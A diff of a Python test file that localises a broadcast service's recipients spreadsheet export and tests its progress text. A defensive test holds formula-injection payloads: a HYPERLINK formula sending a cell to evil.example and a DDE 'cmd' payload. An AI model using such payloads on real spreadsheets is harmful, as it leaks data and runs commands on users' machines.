@@ -137,14 +137,34 @@ async def test_acknowledgements_reports_reminders_and_the_workbook(
     assert reminded == 2
     assert await broadcasts.remind_unacknowledged(session, regional, created.id, render, 1) == 0
 
-    workbook = load_workbook(io.BytesIO(broadcasts.recipients_workbook(lines, MOSCOW)))
+    t = translator.for_locale("ru")
+    workbook = load_workbook(io.BytesIO(broadcasts.recipients_workbook(lines, MOSCOW, t)))
     sheet = workbook.active
     assert sheet is not None
+    assert sheet.title == "Получатели"
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0] == ("ФИО", "Роль", "Муниципалитет", "Школа", "Доставка", "Ознакомлен")
     assert len(rows) == 4
     assert sheet.freeze_panes == "A2"
     assert sum(1 for row in rows[1:] if row[5]) == 1
+    # Roles and delivery outcomes in words of the coordinator's language, not codes.
+    assert {(row[1], row[4]) for row in rows[1:]} == {("директор школы", "доставлено")}
+    english = broadcasts.recipients_workbook(lines, MOSCOW, translator.for_locale("en"))
+    sheet = load_workbook(io.BytesIO(english)).active
+    assert sheet is not None
+    header, first, *_ = list(sheet.iter_rows(values_only=True))
+    assert header[:2] == ("Full name", "Role")
+    assert first[4] == translator.get("en", "delivery-sent")
+
+
+def test_the_progress_counts_what_its_bar_shows(translator: Translator) -> None:
+    """Blocked and failed messages are handled too: the figure beside the bar counts them."""
+    progress = broadcasts.Progress(
+        total=10, sent=5, blocked=2, failed=1, left=2, withdrawn=0, acknowledged=0
+    )
+    text = notices.progress_text(translator.for_locale("ru"), progress, cancelled=False)
+    assert "▓▓▓▓▓▓▓▓░░ 8 из 10" in text
+    assert "Доставлено: 5, заблокировали бота: 2, ошибки: 1, осталось: 2" in text
 
 
 async def test_enqueueing_many_recipients_is_one_statement(session: AsyncSession) -> None:
@@ -192,7 +212,7 @@ async def registration_schools(session: AsyncSession, person: Participant) -> li
     return [school.id for school in (await registration.profile(session, person)).schools]
 
 
-def test_the_recipients_workbook_carries_no_formula() -> None:
+def test_the_recipients_workbook_carries_no_formula(translator: Translator) -> None:
     leak = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
     person = Participant(telegram_id=1, full_name=leak, role=Role.DIRECTOR, locale="ru")
     lines = [
@@ -204,6 +224,7 @@ def test_the_recipients_workbook_carries_no_formula() -> None:
             datetime(2026, 10, 5, 7, tzinfo=UTC),
         )
     ]
-    texts = xlsx_texts(broadcasts.recipients_workbook(lines, MOSCOW))
+    t = translator.for_locale("ru")
+    texts = xlsx_texts(broadcasts.recipients_workbook(lines, MOSCOW, t))
     assert texts[:6] == ["ФИО", "Роль", "Муниципалитет", "Школа", "Доставка", "Ознакомлен"]
-    assert texts[6:10] == [leak, "director", "+Киришский", "@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert texts[6:10] == [leak, t("role-director"), "+Киришский", "@SUM(1+1)*cmd|' /C calc'!A0"]
